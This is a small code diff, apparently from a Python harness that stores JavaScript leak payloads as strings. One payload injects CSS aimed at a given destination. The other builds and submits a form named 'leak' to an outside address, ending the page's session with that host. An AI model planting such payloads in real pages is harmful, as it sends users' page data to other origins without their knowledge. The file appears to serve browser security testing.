@@ -96,7 +96,8 @@ ROADS = """(async (to) => {
   add("style", { textContent: far.replaceAll("TO", to) });
 })"""
 LAST = """((to) => {
-  document.body.append(Object.assign(document.createElement("form"), { action: to + "/form", id: "leak" }));
+  const form = { action: to + "/form", id: "leak" };
+  document.body.append(Object.assign(document.createElement("form"), form));
   document.getElementById("leak").submit();
 })"""
 """It leaves the page, and would end what the other roads have begun."""
